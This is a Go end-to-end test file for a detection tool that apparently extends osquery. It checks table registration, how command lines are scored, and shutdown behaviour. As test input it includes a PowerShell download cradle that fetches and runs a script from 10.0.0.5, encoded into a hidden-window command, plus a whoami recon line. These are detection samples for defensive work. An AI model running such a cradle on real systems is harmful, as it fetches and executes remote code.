//go:build !windows

package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/exechunt/exechunt/extension/osquerytest"
)

// The end-to-end tests build the real exechunt.ext (CGO off) and run it against
// osquerytest, which plays osqueryd's side of the Thrift protocol.

var (
	buildOnce sync.Once
	builtBin  string
	buildErr  error
	buildDir  string
)

func extensionBinary(t testing.TB) string {
	t.Helper()
	if testing.Short() {
		t.Skip("end-to-end: builds and runs the extension binary; skipped with -short")
	}
	buildOnce.Do(func() {
		buildDir, buildErr = os.MkdirTemp("", "exechunt-e2e")
		if buildErr != nil {
			return
		}
		builtBin = filepath.Join(buildDir, "exechunt.ext")
		cmd := exec.Command("go", "build", "-o", builtBin, ".")
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := cmd.CombinedOutput(); err != nil {
			buildErr = errors.New("go build: " + err.Error() + "\n" + string(out))
		}
	})
	if buildErr != nil {
		t.Fatal(buildErr)
	}
	return builtBin
}

// syncBuffer collects a child's stderr while the test reads it.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

type extProcess struct {
	cmd    *exec.Cmd
	stderr *syncBuffer
	done   chan struct{}
}

// startExtension starts exechunt.ext as osqueryd starts an autoloaded extension.
func startExtension(t *testing.T, h *osquerytest.Harness, extra ...string) *extProcess {
	t.Helper()
	return startExtensionWithConfig(t, h, "", extra...)
}

// startExtensionWithConfig starts exechunt.ext with the given extension.yaml content.
func startExtensionWithConfig(t testing.TB, h *osquerytest.Harness, yaml string, extra ...string) *extProcess {
	t.Helper()
	cfg := filepath.Join(t.TempDir(), "extension.yaml")
	if !strings.Contains(yaml, "state_dir:") { // keep test state out of /var/lib
		yaml = "state_dir: " + t.TempDir() + "\n" + yaml
	}
	if err := os.WriteFile(cfg, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	p := &extProcess{stderr: &syncBuffer{}, done: make(chan struct{})}
	args := append([]string{"--socket", h.Socket(), "--timeout", "3", "--interval", "3"}, extra...)
	p.cmd = exec.Command(extensionBinary(t), args...)
	p.cmd.Env = append(os.Environ(), "EXECHUNT_CONFIG="+cfg)
	p.cmd.Stderr = p.stderr
	if err := p.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		_ = p.cmd.Wait()
		close(p.done)
	}()
	t.Cleanup(func() {
		select {
		case <-p.done:
		default:
			_ = p.cmd.Process.Kill()
			<-p.done
		}
		if t.Failed() {
			t.Logf("extension stderr:\n%s", p.stderr.String())
		}
	})
	return p
}

// exited waits up to d for the process to end and returns its exit code.
func (p *extProcess) exited(t *testing.T, d time.Duration) int {
	t.Helper()
	select {
	case <-p.done:
		return p.cmd.ProcessState.ExitCode()
	case <-time.After(d):
		t.Fatalf("the extension did not exit within %v", d)
		return -1
	}
}

func startHarness(t testing.TB) (*osquerytest.Harness, context.Context) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	t.Cleanup(cancel)
	h, err := osquerytest.Start(ctx, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { h.Close() })
	return h, ctx
}

func encodePS(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(b[2*i:], c)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestExtensionEndToEnd(t *testing.T) {
	h, ctx := startHarness(t)
	p := startExtension(t, h)

	reg, err := h.WaitRegistered(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if reg.Info.Name != "exechunt" || reg.Info.Version != "dev" {
		t.Errorf("registered as %+v", reg.Info)
	}
	if got := reg.Tables(); !reflect.DeepEqual(got, []string{"command_line_analysis", "powershell_script_blocks", "process_creation_events", "process_lineage"}) {
		t.Errorf("tables = %v", got)
	}
	if err := h.Ping(ctx, reg.UUID); err != nil {
		t.Error(err)
	}

	text, integer, double := "TEXT", "INTEGER", "DOUBLE"
	want := []osquerytest.Column{
		{Name: "cmdline", Type: text, Op: osquerytest.OpRequired},
		{Name: "program", Type: text}, {Name: "family", Type: text}, {Name: "flags", Type: text},
		{Name: "encoded_command", Type: text}, {Name: "decoded_command", Type: text},
		{Name: "urls", Type: text}, {Name: "ips", Type: text}, {Name: "indicators", Type: text},
		{Name: "score", Type: integer}, {Name: "entropy", Type: double}, {Name: "cosine_similarity", Type: double},
	}
	registered, err := h.RegisteredColumns("command_line_analysis")
	if err != nil || !reflect.DeepEqual(registered, want) {
		t.Errorf("registered columns:\n got %+v %v\nwant %+v", registered, err, want)
	}
	cols, err := h.Columns(ctx, "command_line_analysis")
	if err != nil || !reflect.DeepEqual(cols, want) {
		t.Errorf("columns action:\n got %+v %v\nwant %+v", cols, err, want)
	}

	const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"
	encoded := "powershell.exe -NoP -W Hidden -EncodedCommand " + encodePS(cradle)
	rows, err := h.Generate(ctx, "command_line_analysis", osquerytest.Eq("cmdline", encoded))
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1 {
		t.Fatalf("rows = %v", rows)
	}
	r := rows[0]
	if r["cmdline"] != encoded || r["decoded_command"] != cradle || r["encoded_command"] != encodePS(cradle) ||
		r["family"] != "powershell" || r["score"] != "100" || r["urls"] != "http://10.0.0.5/a.ps1" {
		t.Errorf("row = %v", r)
	}
	for _, tag := range []string{"encoded_command", "download_cradle", "hidden_window", "invoke_expression"} {
		if !strings.Contains(","+r["indicators"]+",", ","+tag+",") {
			t.Errorf("indicators %q lack %s", r["indicators"], tag)
		}
	}

	// cmdline IN (…): several EQ constraints in one list.
	rows, err = h.Generate(ctx, "command_line_analysis", osquerytest.Eq("cmdline", "cmd.exe /c whoami"), osquerytest.Eq("cmdline", "ls"))
	if err != nil || len(rows) != 2 || rows[0]["indicators"] != "recon_command" || rows[1]["cmdline"] != "ls" {
		t.Errorf("IN: %v %v", rows, err)
	}
	// No usable constraint: no rows (osquery refuses such a query before asking).
	rows, err = h.Generate(ctx, "command_line_analysis", osquerytest.Constraint{Column: "cmdline", Op: osquerytest.Like, Expr: "%x%"})
	if err != nil || len(rows) != 0 {
		t.Errorf("LIKE only: %v %v", rows, err)
	}
	if !strings.Contains(p.stderr.String(), `"memory_limit_mb":50`) {
		t.Errorf("the start-up log line lacks the memory limit: %s", p.stderr.String())
	}

	// osqueryd goes away: the next ping fails and the extension exits non-zero, so
	// that osquery's autoload restarts it.
	began := time.Now()
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	if code := p.exited(t, 10*time.Second); code != 1 {
		t.Errorf("exit code %d after osqueryd went away, want 1", code)
	}
	t.Logf("exited %v after the manager closed (--interval 3)", time.Since(began).Round(10*time.Millisecond))
	if !strings.Contains(p.stderr.String(), "went away") {
		t.Errorf("stderr does not say why it stopped: %s", p.stderr.String())
	}
}

// SIGTERM (osqueryd stopping its extensions, or a service manager) deregisters and
// exits 0.
func TestExtensionSIGTERM(t *testing.T) {
	h, ctx := startHarness(t)
	p := startExtension(t, h, "--verbose")
	reg, err := h.WaitRegistered(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if code := p.exited(t, 10*time.Second); code != 0 {
		t.Errorf("exit code %d after SIGTERM, want 0", code)
	}
	if err := h.WaitDeregistered(ctx, reg.UUID); err != nil {
		t.Error(err)
	}
	if _, err := os.Stat(reg.Socket); !os.IsNotExist(err) {
		t.Errorf("extension socket left behind: %v", err)
	}
}

// With no osqueryd listening, the extension gives up after --timeout seconds.
func TestExtensionNoOsquery(t *testing.T) {
	bin := extensionBinary(t)
	sock := filepath.Join(t.TempDir(), "osquery.em")
	cmd := exec.Command(bin, "--socket", sock, "--timeout", "1", "--interval", "1")
	cmd.Env = append(os.Environ(), "EXECHUNT_CONFIG="+filepath.Join(t.TempDir(), "none.yaml"))
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 1 {
		t.Fatalf("err = %v, output %s", err, out)
	}
	// EXECHUNT_CONFIG names a missing file: that is reported before any connection.
	if !strings.Contains(string(out), "none.yaml") {
		t.Errorf("output %s", out)
	}
	// It gives up by itself (exit 1, naming the socket); the context only guards
	// against a hang (it would kill the process: no exit code 1).
	guard, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd = exec.CommandContext(guard, bin, "--socket", sock, "--timeout", "1", "--interval", "1")
	cmd.Env = append(os.Environ(), "EXECHUNT_CONFIG=")
	out, err = cmd.CombinedOutput()
	if !errors.As(err, &ee) || ee.ExitCode() != 1 || !strings.Contains(string(out), sock) {
		t.Errorf("err = %v, output %s", err, out)
	}
}

func TestMain(m *testing.M) {
	code := m.Run()
	if buildDir != "" {
		os.RemoveAll(buildDir)
	}
	os.Exit(code)
}
